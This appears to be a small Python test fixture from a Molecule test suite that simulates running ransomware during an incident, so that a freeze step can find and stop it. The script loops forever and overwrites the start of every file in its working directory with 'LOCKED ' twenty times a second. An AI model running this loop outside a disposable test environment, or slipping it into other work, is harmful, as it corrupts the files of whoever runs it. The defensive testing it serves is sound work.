"""Ransomware that is still running when the incident starts (Molecule's shared writer, issue 14).

Runs with its working directory inside a client folder and rewrites every file it finds there by relative path,
twenty times a second, so it keeps writing through a read-only bind mount made above it later. The freeze must find
it by its working directory and stop it. Started and ended by molecule/_shared/tasks/encryptor.yml.
"""

import os
import time

while True:
    for name in sorted(os.listdir(".")):
        try:
            with open(name, "r+b") as fh:
                fh.write(b"LOCKED ")
        except OSError:
            pass
    time.sleep(0.05)
